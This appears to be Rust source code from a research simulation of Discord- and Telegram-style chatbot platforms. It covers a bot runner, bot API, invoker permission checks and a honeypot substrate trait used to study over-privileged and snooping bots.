    /// Process all currently queued events; returns how many were handled.
    pub fn poll(&mut self) -> usize {
        let mut handled = 0;
        while let Ok(event) = self.rx.try_recv() {
            self.behavior.on_event(&event, &mut self.api);
            handled += 1;
        }
        handled
    }

    /// Immutable access to the behaviour (e.g. for descriptions).
    pub fn behavior(&self) -> &dyn Behavior {
        self.behavior.as_ref()
    }
}

/// Drives a fleet of bots.
#[derive(Default)]
pub struct BotRunner {
    bots: Vec<Bot>,
}

impl BotRunner {
    /// An empty runner.
    pub fn new() -> BotRunner {
        BotRunner::default()
    }

    /// Add a connected bot.
    pub fn add(&mut self, bot: Bot) {
        self.bots.push(bot);
    }

    /// Number of bots under management.
    pub fn len(&self) -> usize {
        self.bots.len()
    }

    /// True when no bots are registered.
    pub fn is_empty(&self) -> bool {
        self.bots.is_empty()
    }

    /// Access the managed bots.
    pub fn bots(&self) -> &[Bot] {
        &self.bots
    }

    /// Deterministic drive: repeat rounds over all bots (in insertion
    /// order) until a full round processes zero events. Returns total events
    /// processed. A round cap defuses accidental reply-loops between bots.
    pub fn run_until_idle(&mut self) -> usize {
        let mut total = 0;
        for _round in 0..1000 {
            let mut round_handled = 0;
            for bot in &mut self.bots {
                round_handled += bot.poll();
            }
            total += round_handled;
            if round_handled == 0 {
                return total;
            }
        }
        total
    }

    /// Threaded drive: every bot polls its queue on its own thread until the
    /// queue stays empty for `quiesce_polls` consecutive polls. Returns the
    /// total events processed. Determinism is *not* guaranteed here — that
    /// is the point of the test that uses it.
    pub fn run_threaded_burst(&mut self, quiesce_polls: u32) -> usize {
        crossbeam::thread::scope(|scope| {
            let mut handles = Vec::new();
            for bot in &mut self.bots {
                handles.push(scope.spawn(move |_| {
                    let mut handled = 0;
                    let mut idle_polls = 0;
                    while idle_polls < quiesce_polls {
                        let n = bot.poll();
                        handled += n;
                        if n == 0 {
                            idle_polls += 1;
                            std::thread::yield_now();
                        } else {
                            idle_polls = 0;
                        }
                    }
                    handled
                }));
            }
            handles
                .into_iter()
                .map(|h| h.join().expect("bot thread panicked"))
                .sum()
        })
        .expect("scope")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::behavior::BenignBehavior;
    use crate::command::{CommandBot, CommandSpec};
    use discord_sim::oauth::InviteUrl;
    use discord_sim::{GuildVisibility, Permissions};
    use netsim::clock::VirtualClock;

    fn setup() -> (
        Platform,
        Network,
        UserId,
        discord_sim::GuildId,
        discord_sim::ChannelId,
    ) {
        let clock = VirtualClock::new();
        let net = Network::with_clock(1, clock.clone());
        let platform = Platform::new(clock);
        let owner = platform.register_user("owner", "o@x.y");
        let guild = platform
            .create_guild(owner, "g", GuildVisibility::Public)
            .unwrap();
        let channel = platform.default_channel(guild).unwrap();
        (platform, net, owner, guild, channel)
    }

    fn connect_bot(
        platform: &Platform,
        net: &Network,
        owner: UserId,
        guild: discord_sim::GuildId,
        name: &str,
        behavior: Box<dyn Behavior>,
    ) -> Bot {
        let app = platform.register_bot_application(owner, name).unwrap();
        let bot =
            Bot::connect(platform.clone(), net.clone(), app.bot_user, name, behavior).unwrap();
        let invite = InviteUrl::bot(
            app.client_id,
            Permissions::SEND_MESSAGES
                | Permissions::VIEW_CHANNEL
                | Permissions::READ_MESSAGE_HISTORY,
        );
        platform.install_bot(owner, guild, &invite, true).unwrap();
        bot
    }

    #[test]
    fn runner_delivers_events_to_all_bots() {
        let (platform, net, owner, guild, channel) = setup();
        let mut runner = BotRunner::new();
        runner.add(connect_bot(
            &platform,
            &net,
            owner,
            guild,
            "A",
            Box::new(BenignBehavior::new("fun")),
        ));
        runner.add(connect_bot(
            &platform,
            &net,
            owner,
            guild,
            "B",
            Box::new(BenignBehavior::new("music")),
        ));
        assert_eq!(runner.len(), 2);

        platform
            .send_message(owner, channel, "!ping", vec![])
            .unwrap();
        let handled = runner.run_until_idle();
        // Both bots saw install events and the message; both replied "pong",
        // and each saw the other's reply.
        assert!(handled >= 4, "handled {handled}");
        let history = platform.read_history(owner, channel).unwrap();
        let pongs = history.iter().filter(|m| m.content == "pong").count();
        assert_eq!(pongs, 2);
    }

    #[test]
    fn runner_quiesces_no_reply_loops() {
        let (platform, net, owner, guild, channel) = setup();
        let mut runner = BotRunner::new();
        runner.add(connect_bot(
            &platform,
            &net,
            owner,
            guild,
            "A",
            Box::new(BenignBehavior::new("fun")),
        ));
        platform
            .send_message(owner, channel, "!ping", vec![])
            .unwrap();
        runner.run_until_idle();
        let after = runner.run_until_idle();
        assert_eq!(after, 0, "second run has nothing to do");
    }

    #[test]
    fn deterministic_across_identical_runs() {
        let run = || {
            let (platform, net, owner, guild, channel) = setup();
            let mut runner = BotRunner::new();
            for name in ["A", "B", "C"] {
                runner.add(connect_bot(
                    &platform,
                    &net,
                    owner,
                    guild,
                    name,
                    Box::new(BenignBehavior::new("fun")),
                ));
            }
            platform
                .send_message(owner, channel, "!help", vec![])
                .unwrap();
            runner.run_until_idle();
            platform
                .read_history(owner, channel)
                .unwrap()
                .iter()
                .map(|m| m.content.clone())
                .collect::<Vec<_>>()
        };
        assert_eq!(run(), run());
    }

    #[test]
    fn threaded_burst_processes_everything() {
        let (platform, net, owner, guild, channel) = setup();
        let mut runner = BotRunner::new();
        runner.add(connect_bot(
            &platform,
            &net,
            owner,
            guild,
            "mod",
            Box::new(CommandBot::new(vec![CommandSpec::reply("ping", "pong")])),
        ));
        runner.add(connect_bot(
            &platform,
            &net,
            owner,
            guild,
            "fun",
            Box::new(BenignBehavior::new("fun")),
        ));
        for _ in 0..5 {
            platform
                .send_message(owner, channel, "!ping", vec![])
                .unwrap();
        }
        let handled = runner.run_threaded_burst(3);
        assert!(
            handled >= 10,
            "both bots saw all five commands, got {handled}"
        );
        let history = platform.read_history(owner, channel).unwrap();
        let pongs = history.iter().filter(|m| m.content == "pong").count();
        assert_eq!(pongs, 10);
    }
}
