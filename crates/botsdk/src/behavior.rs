//! Bot behaviours and the API they program against.
//!
//! A [`Behavior`] is the developer-controlled backend code. It receives
//! gateway events and acts through a [`BotApi`] — which couples the bot's
//! *platform* account (mediated by the bot's granted permissions) with the
//! backend's own *network* access (not mediated by anything, which is why an
//! exfiltrating backend can ship channel content anywhere it likes).

use crate::context::InvokerContext;
use discord_sim::gateway::GatewayEvent;
use discord_sim::message::Attachment;
use discord_sim::{ChannelId, GuildId, MessageId, Permissions, Platform, PlatformResult, UserId};
use netsim::client::{ClientConfig, HttpClient};
use netsim::http::{Response, Url};
use netsim::{NetError, Network};

/// Everything a behaviour can do: platform actions as the bot account, and
/// raw network access as the developer's server.
pub struct BotApi {
    platform: Platform,
    bot: UserId,
    http: HttpClient,
}

impl BotApi {
    /// Construct the API for one bot backend.
    ///
    /// `label` names the backend in network traces — the honeypot
    /// attributes canary triggers to it.
    pub fn new(platform: Platform, net: Network, bot: UserId, label: &str) -> BotApi {
        let http = HttpClient::new(
            net,
            ClientConfig {
                user_agent: format!("bot-backend/{label}"),
                ..ClientConfig::default()
            },
        );
        BotApi {
            platform,
            bot,
            http,
        }
    }

    /// The bot's account ID.
    pub fn bot_id(&self) -> UserId {
        self.bot
    }

    /// Post a message as the bot.
    pub fn send(&self, channel: ChannelId, content: &str) -> PlatformResult<MessageId> {
        self.platform
            .send_message(self.bot, channel, content, vec![])
    }

    /// Post a message with attachments as the bot.
    pub fn send_with_attachments(
        &self,
        channel: ChannelId,
        content: &str,
        attachments: Vec<Attachment>,
    ) -> PlatformResult<MessageId> {
        self.platform
            .send_message(self.bot, channel, content, attachments)
    }

    /// Read a channel's history as the bot (subject to the bot's perms).
    pub fn read_history(&self, channel: ChannelId) -> PlatformResult<Vec<discord_sim::Message>> {
        self.platform.read_history(self.bot, channel)
    }

    /// Kick a member as the bot.
    pub fn kick(&self, guild: GuildId, subject: UserId) -> PlatformResult<()> {
        self.platform.kick(self.bot, guild, subject)
    }

    /// Ban a member as the bot.
    pub fn ban(&self, guild: GuildId, subject: UserId) -> PlatformResult<()> {
        self.platform.ban(self.bot, guild, subject)
    }

    /// Delete a message as the bot.
    pub fn delete_message(&self, channel: ChannelId, id: MessageId) -> PlatformResult<()> {
        self.platform.delete_message(self.bot, channel, id)
    }

    /// The bot's own effective permissions in a channel.
    pub fn my_permissions(&self, channel: ChannelId) -> Permissions {
        self.platform
            .effective_permissions(self.bot, channel)
            .unwrap_or(Permissions::NONE)
    }

    /// Build the invoker-check context for a command invocation.
    pub fn invoker_context(
        &self,
        guild: GuildId,
        channel: ChannelId,
        invoker: UserId,
    ) -> InvokerContext {
        InvokerContext::new(self.platform.clone(), guild, channel, invoker)
    }

    /// Fetch a URL from the developer's backend server. This is ordinary
    /// internet access — the platform has no say in it.
    pub fn fetch_url(&mut self, url: &str) -> Result<Response, NetError> {
        let url = Url::parse(url)?;
        self.http.get(url)
    }

    /// Direct platform access for advanced behaviours (the runtime uses it
    /// for command dispatch plumbing).
    pub fn platform(&self) -> &Platform {
        &self.platform
    }

    /// Enumerate a channel's webhooks as the bot (requires the bot to hold
    /// `MANAGE_WEBHOOKS` there).
    pub fn list_webhooks(&self, channel: ChannelId) -> PlatformResult<Vec<discord_sim::Webhook>> {
        self.platform.webhooks(self.bot, channel)
    }
}

/// Developer-controlled backend logic.
pub trait Behavior: Send {
    /// Handle one gateway event.
    fn on_event(&mut self, event: &GatewayEvent, api: &mut BotApi);

    /// A short functional description, as it would appear in a listing.
    fn description(&self) -> String {
        "A chatbot.".to_string()
    }
}

/// A well-behaved bot: answers its own prefix commands, ignores everything
/// else, and never touches content that was not addressed to it.
pub struct BenignBehavior {
    /// Command prefix, e.g. `!`.
    pub prefix: String,
    /// Functional tag shown in listings (music, fun, moderation, …).
    pub tag: String,
}

impl BenignBehavior {
    /// A benign bot with the conventional `!` prefix.
    pub fn new(tag: &str) -> BenignBehavior {
        BenignBehavior {
            prefix: "!".into(),
            tag: tag.to_string(),
        }
    }
}

impl Behavior for BenignBehavior {
    fn on_event(&mut self, event: &GatewayEvent, api: &mut BotApi) {
        let GatewayEvent::MessageCreate { message, .. } = event else {
            return;
        };
        if message.author == api.bot_id() {
            return;
        }
        let Some((cmd, _args)) = message.command(&self.prefix) else {
            return;
        };
        let reply = match cmd {
            "ping" => "pong".to_string(),
            "info" => format!("I am a {} bot. Try {}help.", self.tag, self.prefix),
            "help" => format!("commands: {0}ping {0}info {0}help", self.prefix),
            _ => return,
        };
        let _ = api.send(message.channel, &reply);
    }

    fn description(&self) -> String {
        format!("A friendly {} bot.", self.tag)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use discord_sim::oauth::InviteUrl;
    use discord_sim::GuildVisibility;
    use netsim::clock::VirtualClock;

    pub(crate) struct World {
        pub platform: Platform,
        pub net: Network,
        pub owner: UserId,
        pub alice: UserId,
        pub guild: GuildId,
        pub channel: ChannelId,
    }

    pub(crate) fn world() -> World {
        let clock = VirtualClock::new();
        let net = Network::with_clock(1, clock.clone());
        let platform = Platform::new(clock);
        let owner = platform.register_user("owner", "o@x.y");
        let alice = platform.register_user("alice", "a@x.y");
        let guild = platform
            .create_guild(owner, "g", GuildVisibility::Public)
            .unwrap();
        platform.join_guild(alice, guild, None).unwrap();
        let channel = platform.default_channel(guild).unwrap();
        World {
            platform,
            net,
            owner,
            alice,
            guild,
            channel,
        }
    }

    fn install(w: &World, name: &str, perms: Permissions) -> UserId {
        let app = w.platform.register_bot_application(w.owner, name).unwrap();
        let invite = InviteUrl::bot(app.client_id, perms);
        w.platform
            .install_bot(w.owner, w.guild, &invite, true)
            .unwrap()
    }

    #[test]
    fn benign_bot_replies_to_ping() {
        let w = world();
        let bot = install(
            &w,
            "Benign",
            Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL,
        );
        let mut api = BotApi::new(w.platform.clone(), w.net.clone(), bot, "benign");
        let mut behavior = BenignBehavior::new("fun");

        let msg_id = w
            .platform
            .send_message(w.alice, w.channel, "!ping", vec![])
            .unwrap();
        let history = w.platform.read_history(w.owner, w.channel).unwrap();
        let message = history.iter().find(|m| m.id == msg_id).unwrap().clone();
        behavior.on_event(
            &GatewayEvent::MessageCreate {
                guild: w.guild,
                message,
            },
            &mut api,
        );

        let history = w.platform.read_history(w.owner, w.channel).unwrap();
        assert_eq!(history.last().unwrap().content, "pong");
        assert_eq!(history.last().unwrap().author, bot);
    }

    #[test]
    fn benign_bot_ignores_noncommands_and_self() {
        let w = world();
        let bot = install(
            &w,
            "Benign",
            Permissions::SEND_MESSAGES | Permissions::VIEW_CHANNEL,
        );
        let mut api = BotApi::new(w.platform.clone(), w.net.clone(), bot, "benign");
        let mut behavior = BenignBehavior::new("fun");

        w.platform
            .send_message(w.alice, w.channel, "hello friends", vec![])
            .unwrap();
        let history = w.platform.read_history(w.owner, w.channel).unwrap();
        let message = history.last().unwrap().clone();
        behavior.on_event(
            &GatewayEvent::MessageCreate {
                guild: w.guild,
                message,
            },
            &mut api,
        );
        // Bot posting its own message must not trigger a loop.
        let own = w
            .platform
            .send_message(bot, w.channel, "!ping", vec![])
            .unwrap();
        let history = w.platform.read_history(w.owner, w.channel).unwrap();
        let own_msg = history.iter().find(|m| m.id == own).unwrap().clone();
        behavior.on_event(
            &GatewayEvent::MessageCreate {
                guild: w.guild,
                message: own_msg,
            },
            &mut api,
        );

        let history = w.platform.read_history(w.owner, w.channel).unwrap();
        assert_eq!(history.len(), 2, "no bot replies were generated");
    }

    #[test]
    fn api_respects_bot_permissions() {
        let w = world();
        // Bot with no useful permissions at all.
        let bot = install(&w, "Powerless", Permissions::NONE);
        let api = BotApi::new(w.platform.clone(), w.net.clone(), bot, "powerless");
        // @everyone defaults still allow sending — the managed role adds
        // nothing, but @everyone does. Verify reads of history though:
        // default @everyone includes READ_MESSAGE_HISTORY, so take it away.
        let everyone = w.platform.guild(w.guild).unwrap().everyone_role;
        let stripped = Permissions::everyone_defaults()
            .difference(Permissions::READ_MESSAGE_HISTORY)
            .difference(Permissions::SEND_MESSAGES);
        w.platform
            .edit_role(w.owner, w.guild, everyone, stripped)
            .unwrap();
        assert!(api.send(w.channel, "hi").is_err());
        assert!(api.read_history(w.channel).is_err());
        assert!(api.kick(w.guild, w.alice).is_err());
    }

    #[test]
    fn backend_fetches_urls_off_platform() {
        let w = world();
        w.net.mount(
            "backend.example",
            |_req: &netsim::http::Request, _ctx: &mut netsim::ServiceCtx<'_>| {
                Response::ok("backend data")
            },
        );
        let bot = install(&w, "Fetcher", Permissions::SEND_MESSAGES);
        let mut api = BotApi::new(w.platform.clone(), w.net.clone(), bot, "fetcher");
        let resp = api.fetch_url("https://backend.example/data").unwrap();
        assert_eq!(resp.text(), "backend data");
        // The fetch shows up in the network trace, attributed to the backend.
        w.net.with_trace(|t| {
            assert_eq!(t.matching_url("backend.example").len(), 1);
            assert!(t.entries()[0].requester.contains("fetcher"));
        });
    }

    #[test]
    fn my_permissions_reports_managed_role() {
        let w = world();
        let bot = install(&w, "Admin", Permissions::ADMINISTRATOR);
        let api = BotApi::new(w.platform.clone(), w.net.clone(), bot, "admin");
        assert_eq!(api.my_permissions(w.channel), Permissions::ALL_KNOWN);
    }
}
