//! Invoker-permission-check APIs.
//!
//! Table 3 of the paper lists the four call patterns that indicate a
//! JavaScript/Python chatbot checks its invoking user's permissions:
//!
//! | # | Pattern              |
//! |---|----------------------|
//! | 1 | `.hasPermission(`    |
//! | 2 | `.has(`              |
//! | 3 | `member.roles.cache` |
//! | 4 | `userPermissions`    |
//!
//! [`InvokerContext`] provides the same four entry points. A conscientious
//! command handler calls one of them before acting on a user's behalf; the
//! paper found 27.02% of JavaScript and 97.35% of Python bots never do.

use discord_sim::{ChannelId, GuildId, Permissions, Platform, Role, UserId};

/// The context a command handler gets about the user who invoked it.
#[derive(Clone)]
pub struct InvokerContext {
    platform: Platform,
    /// The guild the command was issued in.
    pub guild: GuildId,
    /// The channel the command was issued in.
    pub channel: ChannelId,
    /// The invoking user (the message author).
    pub invoker: UserId,
}

impl InvokerContext {
    /// Build a context for one invocation.
    pub fn new(platform: Platform, guild: GuildId, channel: ChannelId, invoker: UserId) -> Self {
        InvokerContext {
            platform,
            guild,
            channel,
            invoker,
        }
    }

    /// Table 3 pattern 1 — `.hasPermission(perm)`: does the invoker hold
    /// `perm` in this channel?
    pub fn has_permission(&self, perm: Permissions) -> bool {
        self.platform
            .effective_permissions(self.invoker, self.channel)
            .map(|p| p.contains(perm))
            .unwrap_or(false)
    }

    /// Table 3 pattern 2 — `permissions.has(perm)` on an explicit user.
    pub fn has(&self, user: UserId, perm: Permissions) -> bool {
        self.platform
            .effective_permissions(user, self.channel)
            .map(|p| p.contains(perm))
            .unwrap_or(false)
    }

    /// Table 3 pattern 3 — `member.roles.cache`: the invoker's role objects,
    /// for handlers that gate on role names/positions instead of bits.
    pub fn member_roles_cache(&self) -> Vec<Role> {
        self.platform
            .guild(self.guild)
            .and_then(|g| {
                g.member_roles(self.invoker)
                    .map(|rs| rs.into_iter().cloned().collect())
            })
            .unwrap_or_default()
    }

    /// Table 3 pattern 4 — `userPermissions`: the invoker's full effective
    /// permission set in the channel.
    pub fn user_permissions(&self) -> Permissions {
        self.platform
            .effective_permissions(self.invoker, self.channel)
            .unwrap_or(Permissions::NONE)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use discord_sim::oauth::InviteUrl;
    use discord_sim::GuildVisibility;
    use netsim::clock::VirtualClock;

    struct World {
        platform: Platform,
        owner: UserId,
        alice: UserId,
        guild: GuildId,
        channel: ChannelId,
    }

    fn world() -> World {
        let platform = Platform::new(VirtualClock::new());
        let owner = platform.register_user("owner", "o@x.y");
        let alice = platform.register_user("alice", "a@x.y");
        let guild = platform
            .create_guild(owner, "g", GuildVisibility::Public)
            .unwrap();
        platform.join_guild(alice, guild, None).unwrap();
        let channel = platform.default_channel(guild).unwrap();
        World {
            platform,
            owner,
            alice,
            guild,
            channel,
        }
    }

    #[test]
    fn has_permission_reflects_effective_permissions() {
        let w = world();
        let ctx = InvokerContext::new(w.platform.clone(), w.guild, w.channel, w.alice);
        assert!(ctx.has_permission(Permissions::SEND_MESSAGES));
        assert!(!ctx.has_permission(Permissions::KICK_MEMBERS));
        let owner_ctx = InvokerContext::new(w.platform, w.guild, w.channel, w.owner);
        assert!(owner_ctx.has_permission(Permissions::KICK_MEMBERS));
    }

    #[test]
    fn has_checks_arbitrary_users() {
        let w = world();
        let ctx = InvokerContext::new(w.platform, w.guild, w.channel, w.alice);
        assert!(ctx.has(w.owner, Permissions::BAN_MEMBERS));
        assert!(!ctx.has(w.alice, Permissions::BAN_MEMBERS));
    }

    #[test]
    fn roles_cache_has_everyone() {
        let w = world();
        let ctx = InvokerContext::new(w.platform, w.guild, w.channel, w.alice);
        let roles = ctx.member_roles_cache();
        assert_eq!(roles.len(), 1);
        assert!(roles[0].is_everyone());
    }

    #[test]
    fn user_permissions_matches_platform() {
        let w = world();
        let ctx = InvokerContext::new(w.platform.clone(), w.guild, w.channel, w.alice);
        assert_eq!(
            ctx.user_permissions(),
            w.platform
                .effective_permissions(w.alice, w.channel)
                .unwrap()
        );
    }

    #[test]
    fn nonmember_invoker_has_nothing() {
        let w = world();
        let stranger = w.platform.register_user("s", "s@x.y");
        let ctx = InvokerContext::new(w.platform, w.guild, w.channel, stranger);
        assert_eq!(ctx.user_permissions(), Permissions::NONE);
        assert!(!ctx.has_permission(Permissions::SEND_MESSAGES));
        assert!(ctx.member_roles_cache().is_empty());
    }

    #[test]
    fn admin_bot_invoker_sees_all_bits() {
        let w = world();
        let app = w
            .platform
            .register_bot_application(w.owner, "Admin")
            .unwrap();
        let invite = InviteUrl::bot(app.client_id, Permissions::ADMINISTRATOR);
        let bot = w
            .platform
            .install_bot(w.owner, w.guild, &invite, true)
            .unwrap();
        let ctx = InvokerContext::new(w.platform, w.guild, w.channel, bot);
        assert_eq!(ctx.user_permissions(), Permissions::ALL_KNOWN);
    }
}
