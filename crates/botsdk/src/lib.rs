//! # botsdk — the third-party chatbot runtime
//!
//! The analogue of `discord.js` / `discord.py` plus the developer-hosted
//! backend. A [`Bot`] couples a bot account's gateway feed with
//! a [`behavior::Behavior`] — the code the developer controls and can change
//! at any time without the installing users noticing (the threat model of
//! §2).
//!
//! Three things matter for the paper:
//!
//! * [`context`] exposes the *user*-permission-check APIs of Table 3
//!   (`has_permission`, `member_roles_cache`, `user_permissions`). The
//!   platform never performs these checks; a command bot that skips them is
//!   vulnerable to permission re-delegation.
//! * [`command`] is the prefix-command framework (`!kick @user`). Each
//!   command declares whether it checks the invoker's permission — the
//!   variable the paper's code analysis measures.
//! * [`malicious`] implements the behaviours the honeypot experiment
//!   detects: an exfiltrating backend that fetches URLs/documents posted in
//!   channels, and a "Melonian"-style developer who logs in as the bot and
//!   manually snoops.
//!
//! Bots run deterministically via [`runner::BotRunner::run_until_idle`]; a
//! threaded driver is available for the concurrency tests.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod behavior;
pub mod command;
pub mod context;
pub mod malicious;
pub mod runner;

pub use behavior::{Behavior, BenignBehavior, BotApi};
pub use command::{CommandAction, CommandBot, CommandSpec};
pub use context::InvokerContext;
pub use malicious::{ExfiltratorBehavior, SnooperBehavior, WebhookThiefBehavior};
pub use runner::{Bot, BotRunner};
