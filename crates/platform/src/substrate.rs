//! The chat-substrate trait: everything the honeypot campaign assumes a
//! messaging platform can do.
//!
//! The trait is the distillation of the campaign's original Discord
//! coupling — provision personas, create an isolated room per bot, install
//! the bot from its *scraped invite string*, connect the developer-side
//! backend, post the conversational feed and canary tokens, drive the
//! backend to quiescence, and read the transcript back for attribution.
//! A substrate that implements this runs the whole §4.2 honeypot design
//! unchanged; the platform differences (captcha walls, webhook support,
//! persona verification friction, message-delivery policy) surface as data
//! in the campaign report instead of as forks of the orchestration code.

use bytes::Bytes;
use netsim::clock::SimInstant;
use netsim::Network;
use std::fmt;

use crate::kind::PlatformKind;

/// A user/bot account identifier, platform-neutral (raw snowflake on the
/// Discord substrate, dense counter on the Telegram one).
pub type ActorId = u64;
/// An isolated room (guild / group) identifier.
pub type RoomId = u64;
/// A text-channel identifier (Telegram groups are their own only channel).
pub type ChannelId = u64;

/// Substrate operation failure. Campaigns treat these as measurements
/// (install failures, dead backends), not bugs, so a message is enough.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SubstrateError(pub String);

impl fmt::Display for SubstrateError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for SubstrateError {}

/// Result alias for substrate operations.
pub type SubstrateResult<T> = Result<T, SubstrateError>;

/// A platform-neutral message attachment.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ChatAttachment {
    /// Filename shown in the channel.
    pub filename: String,
    /// MIME type.
    pub content_type: String,
    /// Raw bytes (canary documents embed beacon URLs here).
    pub bytes: Bytes,
}

impl ChatAttachment {
    /// Build an attachment.
    pub fn new(filename: &str, content_type: &str, bytes: impl Into<Bytes>) -> ChatAttachment {
        ChatAttachment {
            filename: filename.to_string(),
            content_type: content_type.to_string(),
            bytes: bytes.into(),
        }
    }
}

/// A transcript entry as read back from a room, with authorship already
/// resolved (the campaign only needs "was this posted by the bot?").
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ChatMessage {
    /// Message identifier.
    pub id: u64,
    /// Author account.
    pub author: ActorId,
    /// Whether the author is a bot account.
    pub author_is_bot: bool,
    /// Message text.
    pub content: String,
    /// Virtual-clock timestamp.
    pub at: SimInstant,
}

/// The campaign's persona pool for one substrate: registered virtual users
/// that can be joined into each honeypot room, tracking how much manual
/// verification friction the platform imposed.
pub trait PersonaRoster: Send + Sync {
    /// Join every persona into a room (performing whatever verification the
    /// platform demands along the way).
    fn join_all(&mut self, room: RoomId, invite_code: Option<&str>) -> SubstrateResult<()>;

    /// Persona for a feed-line index (wraps around the pool).
    fn by_index(&self, idx: usize) -> ActorId;

    /// Number of personas.
    fn len(&self) -> usize;

    /// True when the roster is empty.
    fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Manual verification steps the platform required so far.
    fn manual_verifications(&self) -> u64;
}

/// What the audit pipeline assumes a messaging platform can do.
///
/// Implementations are cheap handles (`Clone` shares the underlying world)
/// and must be deterministic: identical call sequences produce identical
/// IDs, transcripts, and network traffic.
pub trait ChatSubstrate: Clone + Send + Sync {
    /// The developer-side backend logic type for this substrate's bots
    /// (`dyn botsdk::Behavior` on Discord, `dyn TgBehavior` on Telegram).
    type Behavior: ?Sized + Send;
    /// A connected backend: account + event queue + behaviour.
    type Backend: Send;

    /// Which ecosystem this is.
    fn kind(&self) -> PlatformKind;

    /// The shared network fabric this substrate's world runs on (canary
    /// sink, network tap, and virtual clock all hang off it).
    fn network(&self) -> &Network;

    /// Register the researcher account that orchestrates the campaign.
    fn register_operator(&self, handle: &str, email: &str) -> ActorId;

    /// Register `count` personas; `auto_verify` pre-verifies them (the
    /// paper's future-work automation) where the platform has such a step.
    fn provision_personas(&self, count: usize, auto_verify: bool) -> Box<dyn PersonaRoster>;

    /// Create an isolated private room owned by `owner`.
    fn create_room(&self, owner: ActorId, name: &str) -> SubstrateResult<RoomId>;

    /// Mint an invite code personas can join the room with.
    fn room_invite(&self, owner: ActorId, room: RoomId) -> SubstrateResult<String>;

    /// Whether installing a bot is gated by a captcha on this platform
    /// (Discord's install flow is; Telegram's add-to-group is not).
    fn install_requires_captcha(&self) -> bool;

    /// Install a bot into a room from its scraped invite string (an OAuth
    /// URL or deep link). Returns the bot's account.
    fn install_bot(
        &self,
        installer: ActorId,
        room: RoomId,
        invite: &str,
        captcha_solved: bool,
    ) -> SubstrateResult<ActorId>;

    /// Plant a webhook-style credential in the room's default channel and
    /// return its secret token — `Ok(None)` on platforms without webhooks
    /// (the canary is simply not planted there; that threat class does not
    /// exist on such substrates).
    fn plant_webhook(
        &self,
        owner: ActorId,
        room: RoomId,
        name: &str,
    ) -> SubstrateResult<Option<String>>;

    /// Connect a bot account's event stream and attach its backend.
    /// `label` names the backend in network traces (`bot-backend/{label}`),
    /// which is how the honeypot attributes canary triggers.
    fn connect_backend(
        &self,
        bot: ActorId,
        label: &str,
        behavior: Box<Self::Behavior>,
    ) -> SubstrateResult<Self::Backend>;

    /// Drive one backend until its queue stays empty; returns events
    /// processed.
    fn drive_to_idle(&self, backend: &mut Self::Backend) -> usize;

    /// The room's default text channel.
    fn default_channel(&self, room: RoomId) -> SubstrateResult<ChannelId>;

    /// Post a message (with optional attachments) as `author`.
    fn send_message(
        &self,
        author: ActorId,
        channel: ChannelId,
        content: &str,
        attachments: Vec<ChatAttachment>,
    ) -> SubstrateResult<u64>;

    /// Read a channel's transcript as `reader` (a human account — bot API
    /// limits do not apply to the researcher).
    fn read_history(
        &self,
        reader: ActorId,
        channel: ChannelId,
    ) -> SubstrateResult<Vec<ChatMessage>>;
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attachment_builder() {
        let att = ChatAttachment::new("a.pdf", "application/pdf", b"x".to_vec());
        assert_eq!(att.filename, "a.pdf");
        assert_eq!(att.bytes.as_ref(), b"x");
    }

    #[test]
    fn substrate_error_displays_message() {
        let e = SubstrateError("install failed".into());
        assert_eq!(e.to_string(), "install failed");
    }
}
