//! The Telegram-style coarse permission model.
//!
//! Where Discord's invite links encode a 41-bit field with per-channel
//! overwrite semantics, a Telegram-style bot carries just two things: a
//! small set of group **admin rights** and a boolean **privacy mode**. With
//! privacy mode *off* (or any admin right held) the bot receives every
//! group message — the "Bots can Snoop" over-receipt risk in its purest
//! form. There are no per-channel overwrites to soften any of it.

use serde::{Deserialize, Serialize};
use std::fmt;

/// A set of Telegram-style admin rights, stored as a bitfield.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, Serialize, Deserialize)]
pub struct TgRights(pub u32);

macro_rules! tg_rights {
    ($(($const_name:ident, $bit:expr, $pretty:expr, $wire:expr);)*) => {
        impl TgRights {
            $(
                #[doc = concat!("`", $pretty, "` (bit ", stringify!($bit), ").")]
                pub const $const_name: TgRights = TgRights(1 << $bit);
            )*

            /// All known rights.
            pub const ALL_KNOWN: TgRights = TgRights($((1u32 << $bit))|*);

            /// `(bit value, canonical lowercase name, deep-link slug)` for
            /// every known right, in bit order.
            pub const NAMES: &'static [(u32, &'static str, &'static str)] = &[
                $((1 << $bit, $pretty, $wire),)*
            ];
        }
    };
}

tg_rights! {
    (CHANGE_INFO, 0, "change chat info", "change_info");
    (DELETE_MESSAGES, 1, "delete messages", "delete_messages");
    (BAN_USERS, 2, "ban users", "ban_users");
    (INVITE_USERS, 3, "invite users", "invite_users");
    (PIN_MESSAGES, 4, "pin messages", "pin_messages");
    (MANAGE_VIDEO_CHATS, 5, "manage video chats", "manage_video_chats");
    (PROMOTE_MEMBERS, 6, "add new admins", "promote_members");
    (POST_MESSAGES, 7, "post messages", "post_messages");
}

/// The pseudo-permission a disabled privacy mode amounts to: the bot is
/// delivered every group message, addressed to it or not. Reported next to
/// the admin-right names so traceability classification sees it.
pub const PRIVACY_OFF_NAME: &str = "read all group messages";

impl TgRights {
    /// No rights — an ordinary (non-admin) bot.
    pub const NONE: TgRights = TgRights(0);

    /// Does this set contain *all* bits of `other`?
    pub fn contains(self, other: TgRights) -> bool {
        self.0 & other.0 == other.0
    }

    /// Any overlap?
    pub fn intersects(self, other: TgRights) -> bool {
        self.0 & other.0 != 0
    }

    /// Is the set empty?
    pub fn is_empty(self) -> bool {
        self.0 == 0
    }

    /// Number of set rights.
    pub fn count(self) -> u32 {
        self.0.count_ones()
    }

    /// Canonical names of the set rights, in bit order.
    pub fn names(self) -> Vec<&'static str> {
        Self::NAMES
            .iter()
            .filter(|(bit, _, _)| self.0 & bit != 0)
            .map(|(_, name, _)| *name)
            .collect()
    }

